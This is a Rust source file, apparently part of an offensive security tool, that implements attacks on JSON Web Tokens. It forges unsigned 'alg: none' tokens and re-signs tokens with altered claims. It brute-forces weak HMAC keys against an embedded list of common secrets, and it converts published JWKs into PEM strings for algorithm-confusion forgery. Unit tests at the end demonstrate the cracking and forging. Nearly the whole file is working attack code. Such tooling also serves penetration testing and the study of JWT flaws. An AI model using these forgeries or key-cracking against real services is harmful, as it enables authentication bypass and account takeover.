//! JSON Web Tokens as an attacker handles them: read a captured token, write
//! it again with another header, claims or signature (unsigned `alg: none`,
//! HMAC with a key found or given), find a weak HMAC key offline against a
//! list of common secrets, and turn published JWKs into the PEM text a
//! confused verifier uses as an HMAC secret. Signing and verifying go
//! through `jsonwebtoken`'s HMAC.

use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use base64::Engine;
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{Map, Value};

/// A token taken apart.
#[derive(Debug, Clone, PartialEq)]
pub struct Jwt {
    pub header: Map<String, Value>,
    pub claims: Map<String, Value>,
    /// `header.payload` as received.
    pub signing_input: String,
    /// The signature part as received (base64url).
    pub signature: String,
}

impl Jwt {
    /// A compact JWS with JSON header and claims, or `None`.
    pub fn parse(token: &str) -> Option<Jwt> {
        let mut parts = token.trim().split('.');
        let (h, p, s) = (parts.next()?, parts.next()?, parts.next()?);
        if parts.next().is_some() {
            return None;
        }
        let header = json_part(h)?;
        let claims = json_part(p)?;
        header.get("alg")?.as_str()?;
        Some(Jwt {
            header,
            claims,
            signing_input: format!("{h}.{p}"),
            signature: s.to_string(),
        })
    }

    pub fn alg(&self) -> &str {
        self.header.get("alg").and_then(Value::as_str).unwrap_or("")
    }

    /// The HMAC algorithm the token is signed with, if it is one.
    pub fn hmac(&self) -> Option<Algorithm> {
        match self.alg() {
            "HS256" => Some(Algorithm::HS256),
            "HS384" => Some(Algorithm::HS384),
            "HS512" => Some(Algorithm::HS512),
            _ => None,
        }
    }

    /// Whether `key` produced this token's HMAC signature.
    pub fn signed_with(&self, key: &[u8]) -> bool {
        let Some(alg) = self.hmac() else { return false };
        jsonwebtoken::crypto::sign(
            self.signing_input.as_bytes(),
            &EncodingKey::from_secret(key),
            alg,
        )
        .map(|s| s == self.signature)
        .unwrap_or(false)
    }

    /// The token with its signature removed (`header.payload.`).
    pub fn stripped(&self) -> String {
        format!("{}.", self.signing_input)
    }

    /// The token with one character of its signature changed.
    pub fn altered(&self) -> String {
        let mut sig: Vec<char> = self.signature.chars().collect();
        let middle = sig.len() / 2;
        if let Some(c) = sig.get_mut(middle) {
            *c = if *c == 'A' { 'B' } else { 'A' };
        }
        format!(
            "{}.{}",
            self.signing_input,
            sig.into_iter().collect::<String>()
        )
    }
}

fn json_part(part: &str) -> Option<Map<String, Value>> {
    let bytes = URL_SAFE_NO_PAD.decode(part.trim_end_matches('=')).ok()?;
    match serde_json::from_slice(&bytes).ok()? {
        Value::Object(m) => Some(m),
        _ => None,
    }
}

fn encode_part(m: &Map<String, Value>) -> String {
    URL_SAFE_NO_PAD.encode(Value::Object(m.clone()).to_string())
}

/// An unsigned token: `alg` set to `alg_spelling` (`none`, `None`, ...),
/// no signature.
pub fn unsigned(
    header: &Map<String, Value>,
    claims: &Map<String, Value>,
    alg_spelling: &str,
) -> String {
    let mut h = header.clone();
    h.insert("alg".into(), Value::String(alg_spelling.into()));
    h.remove("kid");
    format!("{}.{}.", encode_part(&h), encode_part(claims))
}

/// A token signed with HMAC (`alg` from the header, HS256 if it names no
/// HMAC) under `key`.
pub fn sign_hmac(header: &Map<String, Value>, claims: &Map<String, Value>, key: &[u8]) -> String {
    let mut h = header.clone();
    let alg = match h.get("alg").and_then(Value::as_str) {
        Some("HS384") => Algorithm::HS384,
        Some("HS512") => Algorithm::HS512,
        _ => {
            h.insert("alg".into(), Value::String("HS256".into()));
            Algorithm::HS256
        }
    };
    let input = format!("{}.{}", encode_part(&h), encode_part(claims));
    let sig = jsonwebtoken::crypto::sign(input.as_bytes(), &EncodingKey::from_secret(key), alg)
        .unwrap_or_default();
    format!("{input}.{sig}")
}

/// Secrets seen signing real tokens: framework defaults, tutorial values,
/// and the words people reach for.
pub const COMMON_SECRETS: &[&str] = &[
    "secret",
    "Secret",
    "SECRET",
    "secret1",
    "secret123",
    "secretkey",
    "secret_key",
    "secret-key",
    "mysecret",
    "my_secret",
    "my-secret",
    "mysecretkey",
    "my_secret_key",
    "supersecret",
    "super_secret",
    "super-secret",
    "topsecret",
    "s3cr3t",
    "s3cret",
    "your-256-bit-secret",
    "your-384-bit-secret",
    "your-512-bit-secret",
    "your_jwt_secret",
    "your-jwt-secret",
    "your-secret-key",
    "your_secret_key",
    "jwt_secret",
    "jwt-secret",
    "jwtsecret",
    "JWT_SECRET",
    "jwt",
    "JWT",
    "SECRET_KEY",
    "secretOrPrivateKey",
    "changeme",
    "change_me",
    "changeit",
    "password",
    "Password",
    "password1",
    "Password1",
    "passw0rd",
    "p@ssw0rd",
    "123456",
    "12345678",
    "1234567890",
    "qwerty",
    "letmein",
    "admin",
    "root",
    "test",
    "testing",
    "dev",
    "development",
    "default",
    "key",
    "private",
    "privatekey",
    "private_key",
    "token",
    "auth",
    "authsecret",
    "auth_secret",
    "api_secret",
    "apisecret",
    "app_secret",
    "appsecret",
    "signing_key",
    "signingkey",
    "hmac_secret",
    "hmac",
    "shhhhh",
    "shhhhhhared-secret",
    "keyboard cat",
    "ThisIsMySecretKey",
    "thisismysecretkey",
    "mySecretKey",
    "MySecretKey",
    "gZH75aKtMN3Yj0iPS4hcgUuTwjAzZr9C",
    "hello",
    "hello world",
    "iloveyou",
    "abc123",
    "random",
    "null",
    "undefined",
    "none",
    "",
];

/// The key among `words` (then [`COMMON_SECRETS`]) that signed `jwt`.
pub fn crack(jwt: &Jwt, words: &[String]) -> Option<Vec<u8>> {
    jwt.hmac()?;
    words
        .iter()
        .map(String::as_str)
        .chain(COMMON_SECRETS.iter().copied())
        .find(|w| jwt.signed_with(w.as_bytes()))
        .map(|w| w.as_bytes().to_vec())
}

/// The PEM texts (SubjectPublicKeyInfo, and for RSA also PKCS#1; each with
/// and without a final newline) a JWK's public key is written as.
pub fn jwk_pems(jwk: &Value) -> Vec<String> {
    let field = |k: &str| {
        jwk.get(k)
            .and_then(Value::as_str)
            .and_then(|s| URL_SAFE_NO_PAD.decode(s.trim_end_matches('=')).ok())
    };
    let mut ders = Vec::new();
    match jwk.get("kty").and_then(Value::as_str) {
        Some("EC") if jwk.get("crv").and_then(Value::as_str) == Some("P-256") => {
            if let (Some(x), Some(y)) = (field("x"), field("y")) {
                if x.len() == 32 && y.len() == 32 {
                    let mut der = P256_SPKI_PREFIX.to_vec();
                    der.push(0x04);
                    der.extend(x);
                    der.extend(y);
                    ders.push(("PUBLIC KEY", der));
                }
            }
        }
        Some("RSA") => {
            if let (Some(n), Some(e)) = (field("n"), field("e")) {
                let pkcs1 = der_sequence(&[der_integer(&n), der_integer(&e)]);
                let mut bits = vec![0u8];
                bits.extend(&pkcs1);
                let spki = der_sequence(&[RSA_ALGORITHM.to_vec(), der_tlv(0x03, &bits)]);
                ders.push(("PUBLIC KEY", spki));
                ders.push(("RSA PUBLIC KEY", pkcs1));
            }
        }
        _ => {}
    }
    let mut out = Vec::new();
    for (label, der) in ders {
        let pem = pem(label, &der);
        out.push(pem.trim_end().to_string());
        out.push(pem);
    }
    out
}

/// SubjectPublicKeyInfo's DER up to the point, for a P-256 key.
const P256_SPKI_PREFIX: &[u8] = &[
    0x30, 0x59, 0x30, 0x13, 0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01, 0x06, 0x08, 0x2a,
    0x86, 0x48, 0xce, 0x3d, 0x03, 0x01, 0x07, 0x03, 0x42, 0x00,
];

/// AlgorithmIdentifier for rsaEncryption, with its NULL parameters.
const RSA_ALGORITHM: &[u8] = &[
    0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00,
];

fn der_tlv(tag: u8, content: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    let len = content.len();
    if len < 0x80 {
        out.push(len as u8);
    } else {
        let bytes: Vec<u8> = len
            .to_be_bytes()
            .into_iter()
            .skip_while(|b| *b == 0)
            .collect();
        out.push(0x80 | bytes.len() as u8);
        out.extend(bytes);
    }
    out.extend_from_slice(content);
    out
}

fn der_integer(magnitude: &[u8]) -> Vec<u8> {
    let trimmed: Vec<u8> = magnitude.iter().copied().skip_while(|b| *b == 0).collect();
    let mut content = Vec::new();
    if trimmed.first().is_none_or(|b| b & 0x80 != 0) {
        content.push(0);
    }
    content.extend(trimmed);
    der_tlv(0x02, &content)
}

fn der_sequence(items: &[Vec<u8>]) -> Vec<u8> {
    der_tlv(0x30, &items.concat())
}

fn pem(label: &str, der: &[u8]) -> String {
    let b64 = STANDARD.encode(der);
    let mut out = format!("-----BEGIN {label}-----\n");
    for chunk in b64.as_bytes().chunks(64) {
        out.push_str(std::str::from_utf8(chunk).unwrap_or_default());
        out.push('\n');
    }
    out.push_str(&format!("-----END {label}-----\n"));
    out
}

/// Whether a credential value looks like a JWT.
pub fn looks_like_jwt(value: &str) -> bool {
    Jwt::parse(value).is_some()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn obj(v: Value) -> Map<String, Value> {
        v.as_object().cloned().unwrap()
    }

    #[test]
    fn a_token_signed_with_a_common_secret_is_cracked_and_others_are_not() {
        let header = obj(json!({"alg": "HS256", "typ": "JWT"}));
        let claims = obj(json!({"sub": "alice", "exp": 4_000_000_000u64}));
        let weak = sign_hmac(&header, &claims, b"changeme");
        let jwt = Jwt::parse(&weak).unwrap();
        assert_eq!(crack(&jwt, &[]), Some(b"changeme".to_vec()));
        let strong = sign_hmac(&header, &claims, b"k2P9-x7QvL0m-Zr4tW8y-Hn3Jb6cF1sD");
        assert_eq!(crack(&Jwt::parse(&strong).unwrap(), &[]), None);
        assert_eq!(
            crack(
                &Jwt::parse(&strong).unwrap(),
                &["k2P9-x7QvL0m-Zr4tW8y-Hn3Jb6cF1sD".into()]
            ),
            Some(b"k2P9-x7QvL0m-Zr4tW8y-Hn3Jb6cF1sD".to_vec())
        );
    }

    #[test]
    fn unsigned_and_stripped_tokens_keep_the_claims() {
        let header = obj(json!({"alg": "HS256", "kid": "main"}));
        let claims = obj(json!({"sub": "bob"}));
        let t = unsigned(&header, &claims, "nOnE");
        assert!(t.ends_with('.'));
        let parsed = Jwt::parse(&t).unwrap();
        assert_eq!(parsed.alg(), "nOnE");
        assert_eq!(parsed.claims, claims);
        assert!(!parsed.header.contains_key("kid"));
        let signed = Jwt::parse(&sign_hmac(&header, &claims, b"k")).unwrap();
        assert_ne!(
            signed.altered(),
            format!("{}.{}", signed.signing_input, signed.signature)
        );
        assert!(signed.stripped().ends_with('.'));
    }

    #[test]
    fn an_rsa_jwk_becomes_der_that_parses_back() {
        // n and e of a 2048-bit key's shape (leading bit set: a 0 byte is added)
        let n = vec![0xc3u8; 256];
        let jwk = json!({"kty": "RSA", "n": URL_SAFE_NO_PAD.encode(&n), "e": "AQAB"});
        let pems = jwk_pems(&jwk);
        assert_eq!(pems.len(), 4);
        assert!(pems[1].starts_with(
            "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAw8PD"
        ));
        assert!(pems[1].ends_with("IDAQAB\n-----END PUBLIC KEY-----\n"));
    }
}
